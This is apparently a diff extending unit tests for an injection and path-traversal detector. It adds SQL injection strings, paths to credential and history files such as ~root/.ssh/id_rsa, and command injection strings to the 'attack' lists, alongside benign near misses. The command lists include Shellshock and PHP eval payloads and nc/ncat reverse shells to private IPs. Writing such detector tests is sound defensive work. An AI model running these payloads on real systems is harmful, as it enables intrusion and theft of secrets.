@@ -191,6 +191,19 @@ static void sqli_attacks(void **state)
         "0\t||\t1;--",
         " OR x=x",
         " group by 1 having 1=1--",
+        /* string joins, versioned comments, conditions cut by a comment, bare UNION SELECT */
+        "'+'",
+        "\" \"",
+        "\" or \"\" \"",
+        "'&'",
+        "1/*!50000'*/",
+        " OR a=b#",
+        "or coalesce(null,1) /*",
+        " or login like char(37,37);",
+        "||(elt(2,version(),user()))",
+        "') union all select-- ",
+        "union select",
+        "(4711=4711)*12",
         "\nhaving\ncount(*)>0-- -",
         "x order by 4-- -",
         "ORDER BY 1",
@@ -260,6 +273,17 @@ static void sqli_benign(void **state)
         "Ocean\xe2\x80\x99s 11 or Ocean\xe2\x80\x99s 12",
         "Don\xe2\x80\x99t Stop Me Now",
         "group by 2",
+        "\"*\"",
+        "'%'",
+        "'s '",
+        "/*! jQuery v3.7 */",
+        "or more -- see below",
+        "and x=5; free shipping",
+        "union selection",
+        "{${sleep(3)}}",
+        "European Union Select Committee",
+        "Union Select Committee 2024",
+        "|| logo(1)",
         "group by week",
         "order by price desc",
         "true or false",
@@ -494,6 +518,32 @@ static void traversal_cases(void **state)
     assert_false(TRAV("learn php: the basics"));
     assert_false(TRAV("data: 3 rows"));
     assert_false(TRAV("/docs/config.php"));
+    /* home dotfiles, /proc entries, server logs and configuration by extension, drive roots */
+    assert_true(TRAV("~/.bash_history"));
+    assert_true(TRAV("~root/.ssh/id_rsa"));
+    assert_true(TRAV("~/.node_repl_history"));
+    assert_true(TRAV("/.zshenv"));
+    assert_true(TRAV("//home//admin//.pgpass"));
+    assert_true(TRAV("/proc/loadavg"));
+    assert_true(TRAV("/var/tmp/sess"));
+    assert_true(TRAV("/usr/local/panel/logs/auth_log"));
+    assert_true(TRAV("/logs/ftpd-transfers.log"));
+    assert_true(TRAV("/home/db/pgdata/pg_hba.conf"));
+    assert_true(TRAV("c:\\apache24\\logs\\httpd.log"));
+    assert_true(TRAV("c:/Program Files/MariaDB 10.6/data/host.err"));
+    assert_true(TRAV("c:/var/lib/postgres/main.conf"));
+    assert_true(TRAV("/C:/inetpub/logs/"));
+    assert_false(TRAV("~/Downloads"));
+    assert_false(TRAV("~/.hidden"));
+    assert_false(TRAV("/a/.hidden"));
+    assert_false(TRAV("/.well-known/security.txt"));
+    assert_false(TRAV("/home/user/docs"));
+    assert_false(TRAV("/proc"));
+    assert_false(TRAV("/logs"));
+    assert_false(TRAV("/blog.log"));
+    assert_false(TRAV("C:\\fakepath\\debug.log"));
+    assert_false(TRAV("/usr/profile"));
+    assert_false(TRAV("/opt/out"));
     /* request paths: only climbing above the root and encoded tricks */
     assert_true(TRAVP("/static/../../etc/passwd"));
     assert_true(TRAVP("/a/..\xc0\xaf..\xc0\xaf"));
@@ -548,6 +598,27 @@ static void cmdi_cases(void **state)
         "ipconfig /all",
         "ls -la /",
         "; echo 'vuln'",
+        /* grammar alone: Shellshock in a value, PHP complex syntax, stored commands, written-out
+         * line breaks, interpreters with a script, cmd.exe carets, eval of a command */
+        "() { :; }; /usr/bin/id",
+        "{${system('uname -a')}}",
+        "${@system($_GET[c])}",
+        ";{$_REQUEST['x']}",
+        "|phpversion();",
+        "RUN=$'uname -a';$RUN",
+        "X=\"ls -la\";${X}",
+        "\\nuname -a\\n",
+        "|whoami\\n",
+        "\\n/usr/bin/id",
+        "nc -nv 10.0.0.5 9001 -e /bin/sh",
+        "perl -e 'print 1'",
+        "^ping -n 3 10.0.0.1",
+        "&w^ho^ami",
+        "eval('uname -a')",
+        "$(`ver`)",
+        "ne^t user",
+        "\"\\r\\nhostname",
+        "ncat 10.0.0.1 4444 -e /bin/bash",
     };
     for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
         if (!CMDI(bad[i]))
@@ -587,6 +658,26 @@ static void cmdi_cases(void **state)
         "curl up",
         "we'd like",
         "don't 'stop' me",
+        /* near misses of the grammar forms */
+        "()=>{x}",
+        "( ) are brackets {",
+        "Hello ${name}",
+        "{$price} each",
+        "phpinfo() explained",
+        "what phpversion() returns",
+        "a=b; $a is a variable",
+        "C:\\new\\id",
+        "line1\\nline2",
+        "node -v 18",
+        "python -V",
+        "perl -e",
+        "x^2 + y^2",
+        "2^ping",
+        "eval('2+2')",
+        "^_^ cute",
+        "a^b",
+        "nc state university",
+        "nc 27 tickets",
     };
     for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++) {
         if (CMDI(ok[i]))
